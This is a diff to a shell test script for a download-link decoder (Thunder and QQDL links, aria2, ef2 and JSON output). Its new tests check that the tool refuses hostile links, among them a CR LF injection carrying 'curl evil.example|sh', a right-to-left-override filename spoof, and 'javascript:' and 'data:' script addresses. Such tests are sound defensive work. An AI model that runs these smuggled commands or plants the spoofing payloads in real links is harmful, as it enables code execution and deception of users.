@@ -125,6 +125,62 @@ expect "batch missing file" 1 "http://plain/x" "'$work/absent'" -- \
   bash -c "echo http://plain/x | '$cli' batch decode '$work/absent' -"
 expect "batch bad charset" 2 "" "--charset 'latin1'" -- "$cli" batch decode --charset latin1
 expect "batch bad kind" 2 "" "unknown link kind 'ed2k'" -- "$cli" batch ed2k
+
+# What a link carries is refused when it would mislead or run as a command, by link and batch
+# alike, the character named.
+q() { printf 'qqdl://%s' "$(printf "$1" | base64 -w0)"; }
+# (link reads a link's bytes in code page 936, as the window does: there they are controls.)
+while IFS='#' read -r name payload named; do
+  [[ $named == U+00[01]? ]] &&
+    expect "link refuses $name" 1 "" "$named" -- "$cli" link decode "$(q "$payload")"
+  expect "batch refuses $name" 1 "" "standard input:1: the address holds the" -- \
+    bash -c "printf '%s\n' '$(q "$payload")' | '$cli' batch decode --charset utf-8"
+done <<'ROWS'
+a command after CR LF#http://a/\r\ncurl evil.example|sh\r\n#U+000D
+a right-to-left override#http://a/\xe4\xb8\x8b\xe8\xbd\xbd\xe2\x80\xaegpj.exe#U+202E
+a line separator#http://a/b\xe2\x80\xa8c#U+2028
+a next-line character#http://a/b\xc2\x85c#U+0085
+a byte-order mark inside#http://a/\xef\xbb\xbfb#U+FEFF
+ROWS
+expect "link refuses a direction mark in a plain address" 1 "" "U+202E at position 10" -- \
+  "$cli" link decode $'http://a/\u202egpj.exe'
+expect "link names the control character's position" 1 "" "U+000D at position 10" -- \
+  "$cli" link decode "$(q 'http://a/\r\nx')"
+expect "batch refuses a javascript: address" 1 "" "'javascript:' address" -- \
+  bash -c "printf '%s\n' '$(q 'javascript:alert(document.domain)//')' | '$cli' batch decode"
+expect "batch refuses a data: address" 1 "" "'data:' address" -- \
+  bash -c "printf '%s\n' '$(q 'data:text/html,<script>alert(1)</script>')' | '$cli' batch decode"
+thunder_utf8="thunder://$(printf 'AAhttp://a/x\xe2\x80\x94ZZ' | base64 -w0)"
+expect "a UTF-8 Thunder link ending in a dash is read inside its wrapper" 0 "http://a/x—" "" -- \
+  bash -c "printf '%s\n' '$thunder_utf8' | '$cli' batch decode"
+expect "a link after a full-width mark is found" 0 $'http://a/b\nhttp://a/b\nhttp://a/b' "" -- \
+  bash -c "printf '下载：%s\n1、%s\n「%s」\n' thunder://QUFodHRwOi8vYS9iWlo= thunder://QUFodHRwOi8vYS9iWlo= thunder://QUFodHRwOi8vYS9iWlo= | '$cli' batch decode"
+
+# The hand-off forms: the bytes a link carried, escaped, and the name a person reads.
+gbk_thunder="thunder://$(printf 'AAhttp://h/\xb5\xe7\xd3\xb0 \xb5\xda1\xbc\xaf.mkvZZ' | base64 -w0)"
+printf '%s\n%s\n\n%s\nqqdl://@@\n%s\n' "$gbk_thunder" "$(q 'http://h/\xe4\xb8\xad.zip')" \
+  "$(q 'ed2k://|file|x|1|h|/')" "$gbk_thunder" >"$work/handoff.txt"
+expect "aria2: each download once, escaped bytes, readable names, no ed2k" 1 \
+  $'http://h/%B5%E7%D3%B0%20%B5%DA1%BC%AF.mkv\n  out=电影 第1集.mkv\nhttp://h/%E4%B8%AD.zip\n  out=中.zip' \
+  "handoff.txt:4: aria2 cannot download the ed2k address; left out" -- \
+  "$cli" batch decode --to aria2 "$work/handoff.txt"
+expect_ef2() {
+  [[ $("$cli" batch decode --to ef2 "$work/handoff.txt" 2>/dev/null | od -An -c | tr -s ' \n' ' ') == \
+    "$(printf '<\r\nhttp://h/%%B5%%E7%%D3%%B0%%20%%B5%%DA1%%BC%%AF.mkv\r\n>\r\n<\r\nhttp://h/%%E4%%B8%%AD.zip\r\n>\r\n' | od -An -c | tr -s ' \n' ' ')" ]]
+}
+truth "ef2: IDM's export, CR LF, server downloads only" expect_ef2
+expect "json: one object a line" 0 \
+  "$(printf '%s\n' '{"line":1,"address":"http://h/电影 第1集.mkv","uri":"http://h/%B5%E7%D3%B0%20%B5%DA1%BC%AF.mkv","name":"电影 第1集.mkv","link":"'"$gbk_thunder"'","kind":"thunder","charset":"936"}' '{"line":2,"address":"http://h/中.zip","uri":"http://h/%E4%B8%AD.zip","name":"中.zip","link":"'"$(q 'http://h/\xe4\xb8\xad.zip')"'","kind":"qqdl","charset":"utf-8"}' '{"line":3}')" \
+  "" -- bash -c "'$cli' batch decode --to json '$work/handoff.txt' | head -3"
+expect "lines stay the default" 1 "$("$cli" batch decode "$work/handoff.txt" 2>/dev/null)" "" -- \
+  "$cli" batch decode --to lines "$work/handoff.txt" 2>/dev/null
+expect "making links to aria2 is a usage error" 2 "" "--to aria2 holds only decoded addresses" -- \
+  "$cli" batch thunder --to aria2
+expect "making links to ef2 is a usage error" 2 "" "--to ef2" -- "$cli" batch qqdl --to=ef2
+expect "making links to json" 0 '{"line":1,"address":"http://a/b","link":"thunder://QUFodHRwOi8vYS9iWlo=","kind":"thunder","charset":"936"}' "" -- \
+  bash -c "echo http://a/b | '$cli' batch thunder --to json"
+expect "an unknown form is a usage error" 2 "" "--to 'idm' is none of lines, aria2, ef2 and json" -- \
+  "$cli" batch decode --to idm
 # A GBK name inside a Thunder link whose first bytes look like the lead of a UTF-8 character
 # (F7 A1 B0 of 鳌 and 搬) is read as GBK, in a list of either encoding.
 payload=$(printf 'AAhttp://a/\xf7\xa1\xb0\xe1\xa1\xa1.zipZZ' | base64 -w0)
